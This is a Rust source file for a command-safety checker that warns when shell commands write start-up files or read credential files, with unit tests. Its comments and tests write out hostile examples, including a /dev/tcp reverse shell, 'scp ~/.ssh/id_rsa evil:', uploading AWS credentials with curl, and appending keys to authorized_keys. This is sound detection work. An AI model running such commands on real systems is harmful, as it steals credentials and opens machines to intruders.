//! Files whose writing or reading matters beyond the command: the start-up files shells and
//! tools run later (a line written into `~/.bashrc` runs, unjudged, in every terminal opened
//! after), and the files that hold credentials (a key read is a key that can be sent).

use super::secrets::{is_secret_dir, is_secret_file};
use super::startup::{
    home_bin, home_configuration, home_configuration_if_home, is_shell_startup, is_startup_file,
};
use super::*;
use crate::getopt::option_values;
use crate::wrappers::basename;

/// The files a command links to (`ln -s ~/.bashrc x`, `ln ~/.bashrc`, `cp -s`): a link is
/// a way to write its file later (`>> x`), so a start-up file linked to is one written.
/// Only start-up files count: a link to a system file (`ln -s /usr/bin/python3 venv/bin/`)
/// is everyday, and writing through it needs the rights writing it directly needs.
fn linked_to(argv: &[String]) -> Vec<&str> {
    let Some(first) = argv.first() else {
        return Vec::new();
    };
    let (flags, targets) = flags_and_targets(&argv[1..]);
    let links = match &*basename(first) {
        "ln" | "link" => true,
        "cp" => {
            has_short(&flags, &['s', 'l'])
                || argv.iter().any(|a| a == "--symbolic-link" || a == "--link")
        }
        _ => false,
    };
    if !links {
        return Vec::new();
    }
    targets
}

/// The files a command writes by its nature, as far as its argv shows (its redirections
/// are the caller's): `tee`, `truncate`, the destination of `cp`/`mv`/`ln`/`install`/
/// `rsync`, `dd of=`, the files of `sed -i`, the outputs of `curl -o`, `sort -o`,
/// `find -fprint`, `git log --output`. The one list every rule about written files reads
/// (start-up files, system files, the kernel's interfaces).
pub(crate) fn written_by(argv: &[String]) -> Vec<&str> {
    let mut out: Vec<&str> = Vec::new();
    let Some(first) = argv.first() else {
        return out;
    };
    let name = basename(first);
    let (flags, targets) = flags_and_targets(&argv[1..]);
    match &*name {
        // moreutils' `sponge FILE` writes its input to FILE.
        "tee" | "truncate" | "sponge" => out.extend(targets.iter().copied()),

        "cp" | "mv" | "ln" | "install" | "rsync" if targets.len() >= 2 => {
            out.extend(targets.last().copied());
        }
        "dd" => out.extend(argv.iter().filter_map(|a| a.strip_prefix("of="))),
        "curl" => out.extend(option_values(&argv[1..], 'o', &["output", "output-dir"])),
        "wget" => out.extend(option_values(
            &argv[1..],
            'O',
            &["output-document", "directory-prefix"],
        )),
        "sort" => out.extend(option_values(&argv[1..], 'o', &["output"])),
        // `uniq IN OUT`; `split IN PREFIX` and `csplit -f PREFIX` write PREFIXaa, …;
        // a tracer's `-o FILE` (a `|` or `!` there pipes to a command instead).
        // `docker cp SRC CONTAINER:DEST`: a file written there, judged as here (the
        // commands `docker exec` runs there are).
        "docker" | "podman" | "nerdctl" if targets.first() == Some(&"cp") => out.extend(
            targets
                .last()
                .filter(|t| targets.len() >= 3 && !t.starts_with('/'))
                .and_then(|t| t.split_once(':'))
                .map(|(_, dest)| dest),
        ),
        "uniq" => out.extend(targets.get(1).copied()),
        "split" => out.extend(targets.get(1).copied()),
        "csplit" => out.extend(option_values(&argv[1..], 'f', &["prefix"])),
        "strace" | "ltrace" => out.extend(
            option_values(&argv[1..], 'o', &["output"])
                .into_iter()
                .filter(|o| !o.starts_with(['|', '!'])),
        ),
        // `print … > "FILE"` in an awk program; with gawk's `-i inplace`, every file it
        // reads is rewritten.
        "awk" | "gawk" | "mawk" | "nawk" => {
            out.extend(targets.first().into_iter().flat_map(|p| awk_outputs(p)));
            let inplace = argv.windows(2).any(|w| {
                matches!(w[0].as_str(), "-i" | "--include") && w[1].starts_with("inplace")
            }) || argv
                .iter()
                .any(|a| a == "--include=inplace" || a == "-iinplace");
            if inplace {
                out.extend(targets.iter().skip(1).copied());
            }
        }
        // `patch FILE < DIFF` changes FILE; `-o OUT` writes OUT instead.
        "patch" => {
            let outputs = option_values(&argv[1..], 'o', &["output"]);
            if outputs.is_empty() {
                out.extend(targets.first().copied());
            }
            out.extend(outputs);
        }
        // `find … -fprint F`, `-fprint0 F`, `-fls F`, `-fprintf F FORMAT`.
        "find" => out.extend(
            argv.windows(2)
                .filter(|w| matches!(w[0].as_str(), "-fprint" | "-fprint0" | "-fls" | "-fprintf"))
                .map(|w| w[1].as_str()),
        ),
        // `git log --output=F`, `git archive -o F`, `git format-patch -o DIR`, `git bundle
        // create F`.
        "git" => {
            let rest = &argv[1..];
            out.extend(option_values(rest, '\0', &["output"]));
            if targets.first() == Some(&"archive") {
                out.extend(option_values(rest, 'o', &[]));
            }
            if targets.first() == Some(&"format-patch") {
                out.extend(option_values(rest, 'o', &["output-directory"]));
            }
            if targets.first() == Some(&"bundle") && targets.get(1) == Some(&"create") {
                out.extend(targets.get(2).copied());
            }
        }
        // `history -w FILE` / `-a FILE`: every line typed, written where it names.
        "history" if has_short(&flags, &['w', 'a']) => out.extend(targets.iter().copied()),
        _ => {}
    }
    // `npm config set KEY VALUE` (also yarn's, pnpm's) writes the user's `~/.npmrc`, which
    // every later npm reads (`script-shell` names the program its scripts run with).
    if matches!(&*name, "npm" | "pnpm" | "yarn")
        && targets.first() == Some(&"config")
        && matches!(targets.get(1), Some(&"set") | Some(&"edit"))
        && !argv
            .iter()
            .any(|a| a == "--location=project" || a == "--project")
    {
        out.push("~/.npmrc");
    }
    // `cp -t DIR`, `--target-directory=DIR`: what is copied lands in DIR.
    if matches!(&*name, "cp" | "mv" | "ln" | "install") {
        out.extend(option_values(&argv[1..], 't', &["target-directory"]));
    }
    if name == "wget" {
        out.extend(option_values(&argv[1..], 'P', &[]));
    }
    match &*name {
        "sed" | "gsed" | "perl"
            if flags.iter().any(|f| {
                f.starts_with("-i")
                    || f.starts_with("--in-place")
                    || (name == "perl" && f.contains('i'))
            }) =>
        {
            out.extend(targets.iter().skip(1));
        }
        _ => {}
    }
    out
}

/// The files an awk program prints into: the string after a `>` or `>>` (a comparison
/// with a string, `$1 > "m"`, is taken for one too: it names a file in the directory).
fn awk_outputs(program: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = program;
    while let Some(at) = rest.find('>') {
        let after = rest[at..].trim_start_matches('>').trim_start();
        if let Some(quoted) = after.strip_prefix('"')
            && let Some(end) = quoted.find('"')
        {
            out.push(&quoted[..end]);
        }
        rest = &rest[at + 1..];
    }
    out
}

/// Findings about the files a command writes or reads: start-up files written (warned: what
/// is written runs later), credentials read (warned: what is read can be sent on).
pub fn check_files(argv: &[String], redirects: &[String], cwd: Option<&str>) -> Vec<Finding> {
    let mut out = Vec::new();
    // `echo LINE >> ~/.bashrc`: the line is on the command line, and is judged as a line of
    // its own where the command is walked (see `walk`), so its writing is not warned.
    out.extend(redirects.iter().find_map(|r| shell_network(r, argv)));
    let shown = literal_writer(argv);
    let redirected = redirects.iter().map(String::as_str);
    for w in redirected.chain(written_by(argv)).chain(linked_to(argv)) {
        let paths = places(w, cwd);
        if shown && redirects.iter().any(|r| r == w) && paths.iter().any(|p| is_shell_startup(p)) {
            continue;
        }
        if paths.iter().any(|p| is_startup_file(p)) || paths.first().is_some_and(|p| home_bin(p)) {
            out.push(finding(
                Severity::Warn,
                "startup_file_write",
                format!(
                    "writes {w}, which shells or tools run or read when they start: what it \
                     adds runs later, unjudged"
                ),
                argv,
            ));
            break;
        }
        let home = paths.iter().skip(1).any(|p| home_configuration_if_home(p));
        if home || paths.first().is_some_and(|p| home_configuration(p)) {
            out.push(finding(
                Severity::Warn,
                "startup_file_write",
                format!(
                    "writes {w}, in the home's configuration, which programs read when they \
                     start (their settings name programs and code to load): what it adds \
                     runs later, unjudged"
                ),
                argv,
            ));
            break;
        }
    }
    if !out.iter().any(|f| f.rule == "startup_file_write") {
        out.extend(super::startup_given::given_startup_file(argv, cwd));
    }
    let program = argv.first().map(|p| basename(p)).unwrap_or_default();
    // ssh's own identity (`ssh -i ~/.ssh/id_ed25519`, `-oIdentityFile=`) is a key used
    // where it lies, the one use a key has that sends nothing of it.
    let ssh = matches!(&*program, "ssh" | "scp" | "sftp");
    // An environment file uploaded (`curl -F f=@.env URL`): its tokens leave with it.
    let sender = super::sequences::SENDERS.contains(&&*program);
    let identity = |i: usize| {
        let (before, word) = (argv[i - 1].as_str(), argv[i].to_ascii_lowercase());
        ssh && (before == "-i"
            || word.starts_with("-i")
            || word.starts_with("-oidentityfile")
            || (before == "-o" && word.starts_with("identityfile")))
    };
    if let Some(secret) = argv
        .iter()
        .enumerate()
        .skip(1)
        .filter(|(i, _)| !identity(*i))
        .map(|(_, a)| a.split_once('=').map_or(a.as_str(), |(_, v)| v))
        .map(|a| a.trim_start_matches('@'))
        .find(|a| {
            let path = normalize(a, cwd);
            is_secret_file(&path)
                || is_secret_dir(&path, &program)
                || (sender && super::secrets::is_environment_file(a))
        })
    {
        out.push(secret_read(secret, argv));
    } else if program == "getent"
        && argv
            .iter()
            .any(|a| matches!(a.as_str(), "shadow" | "gshadow"))
    {
        out.push(secret_read("/etc/shadow", argv));
    } else if let Some(dir) = serves(argv).filter(|d| {
        let d = normalize(d, cwd);
        d == "/" || d == "~" || super::home_dir() == Some(d.as_str()) || is_secret_dir(&d, "")
    }) {
        out.push(finding(
            Severity::Warn,
            "secret_read",
            format!("serves {dir}, and the credentials in it, to whoever connects"),
            argv,
        ));
    } else if let Some(what) =
        super::secrets::prints_credentials(&program, argv.get(1..).unwrap_or_default())
    {
        out.push(finding(
            Severity::Warn,
            "secret_read",
            format!("{program} {what}: what is read can be sent on"),
            argv,
        ));
    }
    out
}

/// The directory a file server serves, when it names one: `python -m http.server -d DIR`,
/// `php -S ADDR -t DIR`, `busybox httpd -h DIR`, `http-server DIR`, `serve DIR`.
fn serves(argv: &[String]) -> Option<&str> {
    let program = basename(argv.first()?);
    let rest = argv.get(1..)?;
    if program.starts_with("python")
        && argv
            .windows(2)
            .any(|w| w[0] == "-m" && w[1] == "http.server")
    {
        return option_values(rest, 'd', &["directory"]).into_iter().next();
    }
    match &*program {
        "php" if rest.iter().any(|a| a.starts_with("-S")) => {
            option_values(rest, 't', &["docroot"]).into_iter().next()
        }
        "busybox" if rest.first().is_some_and(|a| a == "httpd") => {
            option_values(&rest[1..], 'h', &[]).into_iter().next()
        }
        "httpd" => option_values(rest, 'h', &[]).into_iter().next(),
        "http-server" | "serve" | "live-server" => rest
            .iter()
            .find(|a| !a.starts_with('-') && !a.chars().all(|c| c.is_ascii_digit()))
            .map(String::as_str),
        _ => None,
    }
}

/// Where a path a command names may be: normalized against the working directory, and,
/// when that directory is not known (a terminal's, or after a `cd` to a computed place),
/// also as if it were the home directory — so `echo … >> .bashrc` in a terminal that sits
/// in the home is seen.
fn places(path: &str, cwd: Option<&str>) -> Vec<String> {
    let mut out = vec![normalize(path, cwd)];
    let relative = !path.starts_with('/') && !path.starts_with('~') && !path.starts_with('$');
    if relative && cwd.is_none() {
        out.push(normalize(&format!("~/{path}"), None));
    }
    out
}

/// The directory a `cd` or `pushd` moves to, from `from`: `Some(Some(dir))` when its word
/// is literal, `Some(None)` when where it goes is not known from the line (a computed word,
/// `cd -`, `CDPATH`), `None` when the command is not one that moves.
pub fn moved_to(argv: &[String], from: Option<&str>) -> Option<Option<String>> {
    let first = argv.first()?;
    if !matches!(&*basename(first), "cd" | "pushd" | "chdir") {
        return None;
    }
    let words: Vec<&str> = argv[1..]
        .iter()
        .map(String::as_str)
        .filter(|a| !matches!(*a, "-P" | "-L" | "-e" | "-@" | "--"))
        .collect();
    let to = match words.as_slice() {
        [] => "~",
        [one] => one,
        _ => return Some(None),
    };
    if to == "-" || to.contains(COMPUTED) || to.contains(['$', '`', '*', '?', '[']) {
        return Some(None);
    }
    if to.starts_with('/') || to.starts_with('~') {
        return Some(Some(normalize(to, None)));
    }
    Some(match from {
        Some(d) if d.starts_with('/') => Some(normalize(to, Some(d))),
        Some(d) if d.starts_with('~') => Some(normalize(&format!("{d}/{to}"), None)),
        Some(d) => Some(format!("{d}/{to}")),
        None => Some(to.to_string()),
    })
}

/// Whether a command writes only what its words show (`echo`/`printf` of literal words).
fn literal_writer(argv: &[String]) -> bool {
    argv.first()
        .is_some_and(|p| matches!(&*basename(p), "echo" | "printf"))
        && argv
            .iter()
            .all(|a| !a.contains(COMPUTED) && !a.contains('$') && !a.contains('`'))
}

/// Whether a redirection's target, as written, is a start-up file.
/// Read with the working directory unknown, so a relative name is also taken as the home's
/// (what is judged here is what an `echo` writes: judging it needlessly costs nothing).
pub fn is_startup_target(raw: &str) -> bool {
    places(raw, None).iter().any(|p| is_startup_file(p))
}

/// The finding for a file a command's input is redirected from (`nc host < ~/.netrc`), when
/// it holds credentials.
pub fn check_read(path: &str, argv: &[String], cwd: Option<&str>) -> Option<Finding> {
    if let Some(f) = shell_network(path, argv) {
        return Some(f);
    }
    if let Some(f) = super::terminals::terminal_opened(path, argv, cwd) {
        return Some(f);
    }
    if let Some(what) = super::system::raw_device_read("", &[path], cwd) {
        return Some(finding(Severity::Warn, "raw_device_read", what, argv));
    }
    is_secret_file(&normalize(path, cwd)).then(|| secret_read(path, argv))
}

/// A redirection onto bash's network devices (`/dev/tcp/HOST/PORT`, `/dev/udp/…`): the shell
/// opens the connection itself, so no program on the line names the network —
/// `bash -i >& /dev/tcp/HOST/PORT 0>&1` hands a shell to whoever listens there.
fn shell_network(path: &str, argv: &[String]) -> Option<Finding> {
    let device = path.strip_prefix("/dev/")?;
    (device.starts_with("tcp/") || device.starts_with("udp/")).then(|| {
        finding(
            Severity::Warn,
            "shell_network",
            format!(
                "opens a network connection through the shell ({path}): what the line sends, \
                 reads or runs goes over it"
            ),
            argv,
        )
    })
}

/// The finding for a credentials file a command reads.
fn secret_read(path: &str, argv: &[String]) -> Finding {
    finding(
        Severity::Warn,
        "secret_read",
        format!("reads {path}, which holds credentials"),
        argv,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::test_words as w;

    #[test]
    fn startup_files_written_and_secrets_read_are_seen() {
        let rules = |line: &str, redirects: &[&str]| -> Vec<&'static str> {
            let r: Vec<String> = redirects.iter().map(|s| s.to_string()).collect();
            check_files(&w(line), &r, Some("/work"))
                .iter()
                .map(|f| f.rule)
                .collect()
        };
        assert_eq!(rules("echo $X", &["~/.bashrc"]), ["startup_file_write"]);
        assert!(
            rules("echo alias ll=ls", &["~/.bashrc"]).is_empty(),
            "judged as a line"
        );
        assert_eq!(
            rules("echo ssh-ed25519 AAAA", &["~/.ssh/authorized_keys"]),
            ["startup_file_write"]
        );
        assert_eq!(
            rules("echo '[core] fsmonitor = id'", &["~/.gitconfig"]),
            ["startup_file_write"]
        );
        assert_eq!(rules("tee -a ~/.zshrc", &[]), ["startup_file_write"]);
        assert_eq!(
            rules("cp x ~/.ssh/authorized_keys", &[]),
            ["startup_file_write"]
        );
        assert_eq!(
            rules("truncate -s0 ~/.profile", &[]),
            ["startup_file_write"]
        );
        assert_eq!(
            rules("sed -i s/a/b/ .git/config", &[]),
            ["startup_file_write"]
        );
        assert_eq!(
            rules("cat x", &[".git/hooks/pre-commit"]),
            ["startup_file_write"]
        );
        assert_eq!(rules("cat ~/.ssh/id_ed25519", &[]), ["secret_read"]);
        assert_eq!(
            rules("curl -d @$HOME/.aws/credentials x", &[]),
            ["secret_read"]
        );
        assert_eq!(rules("cat /proc/1/environ", &[]), ["secret_read"]);
        assert_eq!(
            rules("cat ~/.config/interactive-terminal/token", &[]),
            ["secret_read"]
        );
        assert_eq!(rules("scp ~/.ssh/id_rsa evil:", &[]), ["secret_read"]);
        for (line, redirects) in [
            ("echo hi", &["out.txt"][..]),
            ("cat ~/.ssh/id_rsa.pub", &[]),
            ("cat ~/.bashrc", &[]),
            ("cp .env.example .env", &[]),
            ("sed -i s/a/b/ src/main.rs", &[]),
            ("git config user.name x", &[]),
            ("cat /proc/cpuinfo", &[]),
        ] {
            assert!(rules(line, redirects).is_empty(), "{line}");
        }
    }

    #[test]
    fn a_relative_hidden_path_where_the_directory_is_not_known_may_be_the_homes() {
        let rules = |line: &str, redirect: &str, cwd: Option<&str>| -> Vec<&'static str> {
            check_files(&w(line), &[redirect.to_string()], cwd)
                .iter()
                .map(|f| f.rule)
                .collect()
        };
        // A terminal's directory is not known: it may be the home.
        for written in [
            ".cargo/config.toml",
            ".tmux.conf",
            ".vscode/extensions/x/x.js",
        ] {
            assert_eq!(
                rules("cat x", written, None),
                ["startup_file_write"],
                "{written}"
            );
            assert!(
                rules("cat x", written, Some("/work")).is_empty(),
                "{written}"
            );
        }
        // What a project keeps at its top, and nothing runs from in a home, passes.
        for written in [
            ".gitignore",
            ".env.local",
            ".github/workflows/ci.yml",
            ".envrc",
        ] {
            assert!(rules("cat x", written, None).is_empty(), "{written}");
        }
        // A link made to a start-up file is a way to write it.
        let linked = |line: &str| {
            check_files(&w(line), &[], None)
                .iter()
                .map(|f| f.rule)
                .collect::<Vec<_>>()
        };
        assert_eq!(linked("ln -s ~/.bashrc x"), ["startup_file_write"]);
        assert_eq!(linked("cp -s ~/.profile p"), ["startup_file_write"]);
        assert!(linked("ln -sf /usr/bin/python3 venv/bin/python").is_empty());
        assert!(linked("cp -r ~/.bashrc.d.example x").is_empty());
    }
}

#[cfg(test)]
mod moves_and_outputs {
    use super::*;

    use crate::test_words as w;

    #[test]
    fn a_cd_moves_the_directory_paths_are_read_against() {
        let to = |line: &str, from: Option<&str>| moved_to(&w(line), from);
        assert_eq!(to("ls", Some("/w")), None);
        assert_eq!(to("cd .git", Some("/w")), Some(Some("/w/.git".into())));
        assert_eq!(to("cd -P ..", Some("/w/a")), Some(Some("/w".into())));
        assert_eq!(to("cd", Some("/w")), Some(Some("~".into())));
        assert_eq!(
            to("cd hooks", Some("~/r/.git")),
            Some(Some("~/r/.git/hooks".into()))
        );
        assert_eq!(to("cd .git", None), Some(Some(".git".into())));
        for lost in ["cd $D", "cd -", "cd $(git rev-parse --git-dir)", "cd a b"] {
            assert_eq!(to(lost, Some("/w")), Some(None), "{lost}");
        }
    }

    #[test]
    fn options_that_name_an_output_are_read_as_their_parsers_read_them() {
        let out = |line: &str, short: char, longs: &[&str]| -> Vec<String> {
            let words = w(line);
            option_values(&words[1..], short, longs)
                .into_iter()
                .map(str::to_string)
                .collect()
        };
        assert_eq!(out("curl -sSLo f u", 'o', &["output"]), ["f"]);
        assert_eq!(out("curl -of u", 'o', &["output"]), ["f"]);
        assert_eq!(out("curl --output f u", 'o', &["output"]), ["f"]);
        assert_eq!(out("sort --outp=f x", 'o', &["output"]), ["f"]);
        assert_eq!(out("sort --out f", 'o', &["output"]), ["f"]);
        assert!(out("curl -- -o", 'o', &["output"]).is_empty());
    }
}
